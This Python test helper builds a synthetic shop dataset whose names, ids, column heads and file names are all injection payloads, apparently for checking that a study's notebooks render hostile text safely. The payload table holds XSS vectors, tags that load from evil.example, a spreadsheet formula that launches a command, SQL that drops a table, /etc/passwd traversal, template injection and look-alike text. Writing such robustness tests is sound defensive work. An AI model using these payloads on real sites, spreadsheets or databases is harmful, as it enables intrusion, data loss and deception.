"""Texts that try to run, to load or to mislead, and a shop whose every text is one of them."""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator
from itertools import count, cycle, islice
from pathlib import Path

import pandas as pd
import yaml

from helpers.simulate.settings import ShopSettings
from helpers.simulate.shop import make_shop

PAYLOADS = {
    "script": "<script>hit()</script>",
    "script from outside": "<script src=//evil.example/x.js></script>",
    "image": "<img src=x onerror=hit()>",
    "svg": "<svg onload=hit()>",
    "svg animation": "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "svg link": '<svg><a xlink:href="javascript:hit()"><text y=9>x</text></a>',
    "frame": "<iframe src=javascript:parent.hit()>",
    "details": "<details open ontoggle=hit()>",
    "focus": "<input autofocus onfocus=hit()>",
    "script link": '<a href="javascript:hit()">x</a>',
    "data link": '<a href="data:text/html,<script>hit()</script>">x</a>',
    "form": "<form action=//evil.example><button>x</button></form>",
    "refresh": '<meta http-equiv=refresh content="0;url=//evil.example">',
    "base": "<base href=//evil.example/>",
    "object": "<object data=//evil.example/x></object>",
    "style sheet": "<link rel=stylesheet href=//evil.example/x.css>",
    "end of script": "</script><script>hit()</script>",
    "end of style": "</style><script>hit()</script>",
    "end of title": "</title><script>hit()</script>",
    "end of comment": "--><img src=x onerror=hit()><!--",
    "end of cdata": "]]><script>hit()</script>",
    "attribute": '" onmouseover="hit()" x="',
    "other attribute": "' autofocus onfocus='hit()",
    "markdown link": "[x](javascript:hit())",
    "markdown image": "![x](//evil.example/x.png)",
    "markdown address": "<javascript:hit()>",
    "markdown block": "```\n# <img src=x onerror=hit()>\n",
    "latex link": r"$\href{javascript:hit()}{x}$",
    "latex text": r"$\text{<img src=x onerror=hit()>}$",
    "broken latex": r"$\frac{1$ \undefined{_^",
    "entities": "&lt;img src=x onerror=hit()&gt;",
    "numbered entities": "&#60;script&#62;hit()&#60;/script&#62;",
    "escapes": r"\u003cscript\u003ehit()\x3c/script\x3e",
    "wide letters": "＜script＞hit()＜/script＞",
    "zero width": "<scr\u200bipt>hit()</scr\u200bipt>",
    "right to left": "\u202egpj.exe\u2066 x",
    "look-alike": "аdmin\u00ad раypal",
    "line separators": "a\u2028hit()\u2029b\u0085c",
    "control characters": "a\x01\x0b\x1fb\x7f",
    "terminal": "\x1b[2J\x1b]0;x\x07\x1b[31mred",
    "null": "a\x00<img src=x onerror=hit()>",
    "template": "{{7*7}}${hit()}<%= hit() %>{% raw %}",
    "format": "{value.__class__.__mro__}%s%n{0}",
    "end of string": "';hit();//",
    "css import": "}@import url(//evil.example/x.css);",
    "css address": "x;background:url(//evil.example/x.png)",
    "formula": "=cmd|' /C calc'!A0",
    "formula link": '=HYPERLINK("http://evil.example";"x")',
    "formula +": "+1+2",
    "formula -": "-2+3",
    "formula @": "@SUM(1)",
    "formula behind a tab": "\t=1+1",
    "formula behind a return": "\r=1+1",
    "wide formula": "＝1+1",
    "sql": "'; DROP TABLE users; --",
    "more sql": "\" OR 1=1; ATTACH 'x'; --",
    "path": "../../etc/passwd",
    "windows path": r"..\..\CON",
    "prototype": "__proto__",
    "missing": "NaN",
    "long word": "W" * 150,
}
"""Name → text. `hit` is what the proof's browser counts; evil.example does not exist."""

NOT_ONE_LINE = ("\n", "\r", "\x00", "\u2028", "\u2029", "\x85", "\x0b")


def texts(*, without: Iterable[str] = ()) -> list[str]:
    """The payloads that hold none of these."""
    return [text for text in PAYLOADS.values() if not any(bad in text for bad in without)]


class Names:
    """Takes the names that a shop has away and gives each a payload, the same one wherever the name stands."""

    def __init__(self, start: int, *, without: Iterable[str] = NOT_ONE_LINE) -> None:
        chosen = texts(without=without)
        self.supply: Iterator[str] = islice(cycle(chosen), start % len(chosen), None)
        self.known: dict[str, str] = {}

    def __call__(self, names: pd.Series) -> pd.Series:
        for name in names.dropna().unique():
            self.known.setdefault(name, self._another())
        return names.map(self.known)

    def _another(self) -> str:
        return next(text for text in self.supply if text not in self.known.values())


def spread(rows: int, start: int, *, without: Iterable[str] = NOT_ONE_LINE) -> list[str]:
    """All payloads, one a row, again and again."""
    chosen = texts(without=without)
    return list(islice(cycle(chosen), start % len(chosen), start % len(chosen) + rows))


def hostile_shop(folder: Path, *, users: int, seed: int) -> Path:
    """A small shop without truth whose texts, text ids, codes, heads and file names are payloads; its study file."""
    make_shop(folder / "shop", ShopSettings(users=users, dirt=False, seed=seed))
    tables = {f.stem: pd.read_csv(f, dtype=str, keep_default_na=False) for f in sorted((folder / "shop").glob("*.csv"))}
    campaigns = Names(seed, without=(*NOT_ONE_LINE, ",", "/"))  # lists and 'campaign/arm' are written with them
    channels = Names(seed + 11, without=(*NOT_ONE_LINE, ",", ":"))
    arms = Names(seed + 5, without=(*NOT_ONE_LINE, "/"))
    arms.known["control"] = "control"
    for table in tables.values():
        _rename(table, campaigns, channels, arms)
    _texts(tables, seed)
    study = _study(folder, tables, seed) | {"notebooks": _parameters(campaigns.known, channels.known, arms.known)}
    file = folder / "hostile.yaml"
    file.write_text(yaml.safe_dump(study, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return file


def _rename(table: pd.DataFrame, campaigns: Names, channels: Names, arms: Names) -> None:
    """Names that several tables share; ids become text with a payload in front."""
    for column, names in {"campaign_id": campaigns, "channel": channels, "arm": arms}.items():
        if column in table:
            table[column] = names(table[column])
    own = texts(without=NOT_ONE_LINE)
    for column in {"user_id", "item_id", "category_id", "order_id", "contact_id"} & set(table):
        numbers = table[column].where(table[column] != "", "0").astype("int64")
        ids = (numbers % len(own)).map(dict(enumerate(own))) + "#" + table[column]
        table[column] = ids.where(table[column] != "", "")


def _texts(tables: dict[str, pd.DataFrame], seed: int) -> None:
    """Texts of one table: each payload beside its kind of row."""
    items, users, feedback = tables["items"], tables["users"], tables["feedback"]
    items["category_name"] = Names(seed)(items.category_name.where(items.category_name.map(_enough(items)), "x"))
    items["title"] = spread(len(items), seed, without=("\x00",))  # a line with NUL is out, and its margin with it
    items["brand"] = Names(seed + 23)(items.brand)
    users["age_band"] = Names(seed + 7)(users.age_band)
    users["gender"] = spread(len(users), seed + 3)
    words = [f"{p} {t}" if i % 2 else f"{p}" for i, (p, t) in enumerate(_zip(feedback, seed))]
    feedback["text"] = words
    tables["campaigns"]["objective"] = spread(len(tables["campaigns"]), seed + 17)
    more = pd.DataFrame({"indicator": texts(), "period": "2017-Q4", "target": "1", "benchmark": "1"})
    odd = pd.DataFrame({"indicator": "orders", "period": texts(), "target": "1", "benchmark": "1"})
    tables["targets"] = pd.concat([tables["targets"], more, odd], ignore_index=True)


def _enough(items: pd.DataFrame) -> dict[str, bool]:
    """The first categories: no more than there are payloads, so that each has a name of its own."""
    first = list(items.category_name.unique())[: len(texts(without=NOT_ONE_LINE)) - 1]
    return {name: name in first for name in items.category_name.unique()}


def _zip(feedback: pd.DataFrame, seed: int) -> Iterator[tuple[str, str]]:
    return zip(spread(len(feedback), seed, without=()), feedback.text, strict=True)


def _study(folder: Path, tables: dict[str, pd.DataFrame], seed: int) -> dict:
    """Write the tables under hostile file names and heads; the study that reads them."""
    names = (n for n in texts(without=(*NOT_ONE_LINE, "/", "\\", "..")) if len(n.encode()) < 100)
    codes = dict(zip(("pv", "fav", "cart", "buy"), texts(without=(*NOT_ONE_LINE, ","))[seed % 20 :], strict=False))
    tables["events"]["behavior"] = tables["events"].behavior.map(codes)
    heads = dict(zip(tables["items"], texts(without=NOT_ONE_LINE)[2:], strict=False))
    tables["items"] = tables["items"].rename(columns=heads)
    inputs: dict[str, dict] = {}
    (folder / "data").mkdir()
    for number, (table, name) in zip(count(), zip(tables, names, strict=False)):
        file = folder / "data" / f"{name}{number}.csv"
        tables[table].to_csv(file, index=False, lineterminator="\n", quoting=csv.QUOTE_ALL)
        inputs[table] = {"path": f"data/{file.name}", "ids": "text"}
    for table in {"spend", "targets"} & set(inputs):
        del inputs[table]["ids"]
    inputs["items"]["columns"] = heads
    inputs["events"]["behavior_codes"] = {code: kind for kind, code in codes.items()}
    title = "".join(PAYLOADS[n] for n in ("end of title", "image", "template", "latex link", "right to left"))
    return {
        "name": "hostile", "title": title, "window": {"start": "2017-06-19", "end": "2017-12-17"},
        "privacy": {"min_cell": 1}, "tables": inputs,
    }  # fmt: skip


def _parameters(campaigns: dict[str, str], channels: dict[str, str], arms: dict[str, str]) -> dict[str, dict | None]:
    """All notebooks; the parameters that name a campaign or a channel name the new one."""
    from helpers.tables import NEEDS

    given: dict[str, dict | None] = dict.fromkeys(NEEDS)
    voucher = {"campaign": campaigns["voucher-aug"]}
    grown = ", ".join(channels[c] for c in ("search", "retargeting"))
    asked = [campaigns[c] for c in ("voucher-aug", "flash-nov", "discount-sep")]
    consent = f"{channels['email']}: consent_email, {channels['push']}: consent_push"
    offers = {"a": ("email-sep", "creative_b"), "b": ("flash-nov", "treated")}
    return given | {
        **{n: dict(voucher) for n in ("33_lifetime_value", "50_experiment", "51_uplift", "56_quasi_experiment")},
        "34_intent": {"campaigns": ", ".join(asked)}, "52_attribution": {"closing_channels": grown},
        "53_contact": {"consent": consent}, "54_budget": {"follows_demand": grown},
        "55_scenario": {f"offer_{x}": f"{campaigns[c]}/{arms[a]}" for x, (c, a) in offers.items()},
    }  # fmt: skip
